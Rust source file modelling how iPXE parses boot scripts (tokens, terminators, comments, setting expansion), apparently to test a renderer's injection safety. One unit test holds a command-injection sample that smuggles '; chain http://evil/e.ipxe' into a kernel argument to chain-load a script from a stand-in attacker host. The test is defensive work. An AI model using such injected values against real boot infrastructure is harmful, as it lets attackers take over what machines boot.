//! A model of how iPXE reads a script, written from iPXE's own code so that the renderer's
//! safety rules can be stated (and property-tested) against what a node actually executes.
//!
//! - `src/image/script.c` (`process_script`): a script is split at `\n`; one trailing `\r` is
//!   dropped; a line ending in `\` continues on the next one; leading whitespace is skipped and
//!   a line starting with `:` carries a label (up to the next whitespace) before its command.
//!   Lines are C strings, so a NUL ends the line.
//! - `src/core/exec.c` (`split_command`, `command_terminator`, `system`): a line is split into
//!   tokens at C `isspace` (space, `\t`, `\n`, `\v`, `\f`, `\r`); there is no quoting or
//!   escaping. A token that *is* `||`, `&&` or `;` ends a command and starts the next one (run on
//!   failure, on success, always); a token that *starts with* `#` comments out the rest of the
//!   line. Each remaining token is then expanded (`expand_settings`): every `${name}` is
//!   replaced by a setting's value, repeatedly, as long as a `${` … `}` remains.
//! - `src/core/getopt.c`: a command's options are the leading arguments starting with `-`; the
//!   first argument that does not start with `-` (or a `--`) ends them.

/// How a command is joined to the one after it on the same line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Then {
    /// `||`: the next command runs if this one failed.
    OnFailure,
    /// `&&`: the next command runs if this one succeeded.
    OnSuccess,
    /// `;`: the next command always runs.
    Always,
}

/// One command as iPXE splits it, before setting expansion.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub argv: Vec<String>,
    /// How the next command on the line is reached; `None` for the last one.
    pub then: Option<Then>,
}

impl Command {
    /// Whether iPXE would expand a setting in any of the arguments (the value would then come
    /// from the node's settings, not from the script).
    pub fn expands(&self) -> bool {
        self.argv.iter().any(|a| expands(a))
    }
}

/// One logical line of a script: an optional label and the commands on it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Line {
    pub label: Option<String>,
    pub commands: Vec<Command>,
}

/// C `isspace` in the "C" locale, which is what iPXE's `isspace` implements.
pub fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | 0x0b | 0x0c | b'\r')
}

/// Whether a token is one that ends a command (`||`, `&&`, `;`) or the rest of the line (`#…`).
pub fn is_terminator(token: &str) -> bool {
    token.starts_with('#') || matches!(token, "||" | "&&" | ";")
}

/// Whether iPXE's `expand_settings` would change a token: it does as soon as `${` appears.
pub fn expands(token: &str) -> bool {
    token.contains("${")
}

/// Splits a script into the logical lines iPXE processes, in order.
pub fn parse(script: &str) -> Vec<Line> {
    let bytes = script.as_bytes();
    let mut lines = Vec::new();
    let mut pending: Vec<u8> = Vec::new();
    let mut rest = bytes;
    loop {
        let (frag, next, last) = match rest.iter().position(|&b| b == b'\n') {
            Some(i) => (&rest[..i], &rest[i + 1..], false),
            None => (rest, &rest[rest.len()..], true),
        };
        pending.extend_from_slice(frag);
        if pending.last() == Some(&b'\r') {
            pending.pop();
        }
        let continued = pending.last() == Some(&b'\\');
        if continued {
            pending.pop();
        }
        if !continued || last {
            lines.push(parse_line(&pending));
            pending.clear();
        }
        if last {
            break;
        }
        rest = next;
    }
    lines
}

fn parse_line(raw: &[u8]) -> Line {
    let raw = match raw.iter().position(|&b| b == 0) {
        Some(i) => &raw[..i],
        None => raw,
    };
    let mut i = 0;
    while i < raw.len() && is_space(raw[i]) {
        i += 1;
    }
    let mut label = None;
    if raw.get(i) == Some(&b':') {
        let start = i + 1;
        let mut end = start;
        while end < raw.len() && !is_space(raw[end]) {
            end += 1;
        }
        label = Some(String::from_utf8_lossy(&raw[start..end]).into_owned());
        i = end;
    }
    let tokens: Vec<String> = raw[i..]
        .split(|&b| is_space(b))
        .filter(|t| !t.is_empty())
        .map(|t| String::from_utf8_lossy(t).into_owned())
        .collect();
    let mut commands = Vec::new();
    let mut argv = Vec::new();
    for t in tokens {
        if t.starts_with('#') {
            break;
        }
        let then = match t.as_str() {
            "||" => Some(Then::OnFailure),
            "&&" => Some(Then::OnSuccess),
            ";" => Some(Then::Always),
            _ => None,
        };
        match then {
            Some(then) => commands.push(Command {
                argv: std::mem::take(&mut argv),
                then: Some(then),
            }),
            None => argv.push(t),
        }
    }
    if !argv.is_empty() {
        commands.push(Command { argv, then: None });
    }
    Line { label, commands }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(line: &Line) -> Vec<Vec<&str>> {
        line.commands
            .iter()
            .map(|c| c.argv.iter().map(String::as_str).collect())
            .collect()
    }

    #[test]
    fn semicolon_token_and_comment_token_as_ipxe_reads_them() {
        // The reported attack: `;` starts a new command and `#` drops the rest of the line.
        let l =
            &parse("kernel http://k console=ttyS0 ; chain http://evil/e.ipxe # xname=x || goto r")
                [0];
        assert_eq!(
            argv(l),
            vec![
                vec!["kernel", "http://k", "console=ttyS0"],
                vec!["chain", "http://evil/e.ipxe"]
            ]
        );
        assert_eq!(l.commands[0].then, Some(Then::Always));
        assert_eq!(l.commands[1].then, None);
    }

    #[test]
    fn separators_inside_tokens_are_plain_text() {
        let l = &parse("kernel u ds=nocloud-net;s=http://a/ a||b c#d || goto r")[0];
        assert_eq!(
            argv(l),
            vec![
                vec!["kernel", "u", "ds=nocloud-net;s=http://a/", "a||b", "c#d"],
                vec!["goto", "r"]
            ]
        );
    }

    #[test]
    fn lines_labels_continuations_and_nul() {
        let s = parse("#!ipxe\r\n  :retry sleep 1\nkernel a \\\nb\nx\0y z\n");
        assert_eq!(s.len(), 5);
        assert!(s[0].commands.is_empty());
        assert_eq!(s[1].label.as_deref(), Some("retry"));
        assert_eq!(argv(&s[1]), vec![vec!["sleep", "1"]]);
        assert_eq!(argv(&s[2]), vec![vec!["kernel", "a", "b"]]);
        assert_eq!(argv(&s[3]), vec![vec!["x"]]);
        assert!(s[4].commands.is_empty());
    }

    #[test]
    fn every_c_space_splits_tokens() {
        let l = &parse("kernel\t--name\x0bk\x0c-n http://u -x")[0];
        assert_eq!(
            argv(l),
            vec![vec!["kernel", "--name", "k", "-n", "http://u", "-x"]]
        );
        assert!(expands("a${b}"));
        assert!(!expands("a$ {b}"));
    }
}
